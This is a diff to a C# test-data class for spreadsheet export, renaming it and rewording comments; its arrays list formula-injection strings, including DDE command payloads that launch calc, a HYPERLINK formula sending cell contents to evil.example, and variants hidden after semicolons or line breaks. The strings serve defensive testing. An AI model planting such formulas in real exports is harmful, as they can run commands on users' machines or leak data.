@@ -1,9 +1,9 @@
 namespace Portal.Tests.Exports;
 
-/// <summary>Texts that people and APIs put into cells, and what must become of them.</summary>
-internal static class NastyTexts
+/// <summary>Texts from people and APIs that are hard to write into a cell safely and unchanged.</summary>
+internal static class TrickyTexts
 {
-    /// <summary>Each begins with something that a spreadsheet may take for a formula.</summary>
+    /// <summary>A spreadsheet may read each of these as a formula.</summary>
     public static readonly string[] Formulas =
     [
         "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.example?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "-5",
@@ -12,13 +12,13 @@ internal static class NastyTexts
         "﹦1", "﹢1", "﹣1", "﹫x", "⁺1", "₋1", "−1+1", "+1+1\u0009@SUM(A1:A9)",
     ];
 
-    /// <summary>A reader that takes the file apart at semicolons, and so at lines too, would find a formula inside.</summary>
+    /// <summary>A reader that splits the file at semicolons and line ends would find a formula inside each of these.</summary>
     public static readonly string[] FormulasInside =
     [
         "a;=1+1;b", "a;\"=cmd|'/C calc'!A0", "a; @SUM(A1);", "line\n=HYPERLINK(\"x\")", "line\r\n-1+cmd|' /C calc'!A0", "x;+f(1)", "\r=1", "\n=1", "\r\n@x",
     ];
 
-    /// <summary>Nothing about them is dangerous: they come out as they went in.</summary>
+    /// <summary>None of these is dangerous: they must read back unchanged.</summary>
     public static readonly string[] Harmless =
     [
         "", " ", "plain", "1=1", "a@b.example", "2026-01-31", "a,b", "a;b", "say \"hello\"", "two\nlines", "two\r\nlines", "cr\ralone",
